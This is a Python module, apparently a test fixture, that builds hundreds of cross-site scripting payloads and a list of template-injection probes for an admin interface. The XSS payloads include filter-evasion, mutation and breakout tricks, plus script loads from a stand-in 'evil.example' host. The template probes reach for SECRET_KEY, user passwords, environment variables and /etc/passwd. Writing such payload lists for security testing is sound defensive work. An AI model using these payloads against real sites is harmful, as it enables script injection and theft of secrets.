"""What somebody might type into a field of the admin to run a script or to read what is secret."""

from itertools import product

EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onmouseenter", "onfocus", "onblur", "onfocusin", "onanimationstart",
    "onanimationend", "ontransitionend", "ontoggle", "onpointerover", "onpointerdown", "onwheel", "onkeydown",
    "oninput",
    "onbeforeinput", "onchange", "onsubmit", "onreset", "oncopy", "onpaste", "onscroll", "onbegin", "onend",
    "onbeforetoggle", "onauxclick", "oncontextmenu", "onsecuritypolicyviolation",
)  # fmt: skip
TAGS = (
    "<img src=x {}>", "<svg {}></svg>", "<body {}>", "<input autofocus {}>",
    "<details open {}><summary>x</summary></details>",
    "<video {}><source src=x {}></video>", "<audio src=x {}></audio>", "<a href=# {}>x</a>",
    "<div tabindex=0 {}>x</div>",
    "<marquee {}>x</marquee>", "<custom-tag {}>x</custom-tag>", "<form {}><button>x</button></form>",
)  # fmt: skip
# What stands for `=` and the quotes round the code, and how the name may be written.
QUOTES = ("{}=hit(1)", '{}="hit(1)"', "{}='hit(1)'", "{} = hit`1`", "{}\n=\thit(1)", "{}=&#104;it(1)", "{}/=hit(1)")
SCHEMES = (
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)", "java\nscript:hit(1)",
    "javascript&colon;hit(1)", "&#106;avascript:hit(1)", "&#x6A;avascript:hit(1)", "javascript://%0Ahit(1)",
    "\x01javascript:hit(1)", "vbscript:hit(1)", "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=hit(1)>", "blob:hit(1)",
    "//evil.example/x.js", "\\\\evil.example", "/\\evil.example", "https:evil.example", "view-source:javascript:hit(1)",
)  # fmt: skip
HOLDERS = (
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button></form>",
    "<button formaction='{}'>x</button>", "<object data='{}'></object>", "<embed src='{}'>", "<base href='{}'>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<math href='{}'>x</math>", "<area href='{}'>",
    "<link rel=stylesheet href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "{}",
)  # fmt: skip
SCRIPTS = (
    "<script>hit(1)</script>", "<SCRIPT>hit(1)</SCRIPT>", "<script >hit(1)</script >", "<script/x>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<<script>hit(1)//<</script>",
    "<script\x0c>hit(1)</script>", "<svg><script>hit(1)</script></svg>", "<svg><script href='data:,hit(1)'/></svg>",
    "<math><mtext><script>hit(1)</script></mtext></math>", "<template><script>hit(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
    "<style><img title='</style><img src=x onerror=hit(1)>'></style>", "<textarea></textarea><script>hit(1)</script>",
    "</title><script>hit(1)</script>", "</textarea><script>hit(1)</script>", "</style><script>hit(1)</script>",
    "</script><script>hit(1)</script>", "--><script>hit(1)</script>", "]]><script>hit(1)</script>",
    "<!--<img src='--><img src=x onerror=hit(1)>'>",
    "<math><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
    "<table><td><math><mi><style><img src=x onerror=hit(1)></style></mi></math></td></table>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.hit(1)&gt;'></iframe>",
    "<p style='background:url(javascript:hit(1))'>x</p>", "<p style='behavior:url(x.htc)'>x</p>",
    "<style>@import 'javascript:hit(1)';</style>",
    "<p style=\"animation:x\" onanimationstart=hit(1)>x</p>", "<img src='x`><script>hit(1)</script>`'>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'></xmp>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=hit(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
    "<image href=x onerror=hit(1)/></svg>#x'></svg>",
    "<img src=x:x onerror=\\u0068it(1)>", "<img/src=x/onerror=hit(1)>",
    "\u2028<script>hit(1)</script>", "<isindex type=image src=1 onerror=hit(1)>",
)  # fmt: skip
# Out of an attribute, or of a string of a script, that the text may stand in.
WAYS_OUT = (
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "`{}",
    "\\'{}",
    '\\"{}',
    "</a>{}",
    '" {} x="',
    "' {} x='",
    "\n{}",
    "&quot;{}",
    "%22{}",
)
INSIDE = (
    "onmouseover=hit(1)",
    "<img src=x onerror=hit(1)>",
    "autofocus onfocus=hit(1)",
    ";hit(1)//",
    "+hit(1)+",
    "style=animation-name:x onanimationend=hit(1)",
)

# Each gives something away, or 3721 by reckoning, where it is taken for a template.
TEMPLATES = (
    *(before + what + after
      for before, after in (("{{", "}}"), ("{{ ", " }}"), ("{% ", " %}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"))
      for what in ("61*61", "settings.SECRET_KEY", "request.META", "user.password", "debug")),
    "{% debug %}", "{% load log %}{% get_admin_log 10 as x %}{{ x }}", "{% include 'admin/base.html' %}",
    "{% csrf_token %}",
    "{% filter force_escape %}x{% endfilter %}", "{% autoescape off %}<script>hit(1)</script>{% endautoescape %}",
    "{{ '<script>hit(1)</script>'|safe }}", "{{ request.user.groups.model.objects.all }}",
    "{{ messages.storages.0.signer.key }}",
    "{{ popup.told }}", "{{ banner.id }}", "{{ block.super }}", "{{ forloop }}", "{{ csrf_token }}", "{% now 'Y' %}",
    "{% url 'admin:index' %}",
    "{% ssi '/etc/passwd' %}", "{% extends 'x.html' %}", "{% comment %}", "{# gone #}", "{%", "{{", "}}", "%}",
    "{name.__class__}", "{total.__init__.__globals__}", "{code!r}", "{0}", "{}", "%(name)s", "%s", "{left:>9999}",
    "{{name}}",
    "{{ [].__class__.__base__.__subclasses__() }}", "{{ cycler.__init__.__globals__.os.environ }}",
)  # fmt: skip


def scripts() -> list[str]:
    """More than five hundred ways to have `hit(1)` carried out."""
    handlers = [tag.replace("{}", quote.format(event)) for (tag, event), quote in zip(
        product(TAGS, EVENTS), [*QUOTES] * (len(TAGS) * len(EVENTS)), strict=False
    )]  # fmt: skip
    links = [holder.format(scheme) for holder, scheme in product(HOLDERS, SCHEMES)]
    ways_out = [way.format(inside) for way, inside in product(WAYS_OUT, INSIDE)]
    return list(dict.fromkeys([*SCRIPTS, *handlers, *links, *ways_out]))
